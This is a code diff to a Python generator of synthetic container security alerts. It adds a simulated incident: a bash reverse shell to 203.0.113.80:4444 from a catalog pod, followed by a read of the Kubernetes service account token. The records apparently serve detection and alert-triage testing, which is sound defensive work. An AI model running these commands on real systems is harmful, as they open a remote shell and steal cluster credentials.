@@ -344,6 +344,19 @@ def attacks(g, at):
     a["output_fields"].update({"proc.name": "find"})
     a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Grep private keys or passwords activities found")
     out.append(a)
+    # 8. A reverse shell from a catalog pod in office hours (an internal service, not customer-facing:
+    #    the evidence is plain, so policy contains it without waiting for anyone), then its token read.
+    rs = "bash -c bash -i >& /dev/tcp/203.0.113.80/4444 0>&1"
+    a = shell(g, t(20), "dev-team-b", "catalog", "ghcr.io/acme/catalog", rs, user="app", parent="node", replica=2)
+    a.update(rule="Redirect STDOUT/STDIN to Network Connection in Container", tags=["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"])
+    a["output_fields"].update({"fd.name": "10.244.4.21:38614->203.0.113.80:4444", "proc.name": "bash"})
+    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Redirect stdout/stdin to network connection")
+    out.append(a)
+    a = shell(g, t(20, 30), "dev-team-b", "catalog", "ghcr.io/acme/catalog", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", user="app", parent="bash", priority="Warning", replica=2)
+    a.update(rule="Read sensitive file untrusted", tags=["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"])
+    a["output_fields"].update({"fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token", "proc.name": "cat"})
+    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Sensitive file opened for reading by non-trusted program")
+    out.append(a)
     return out
 
 
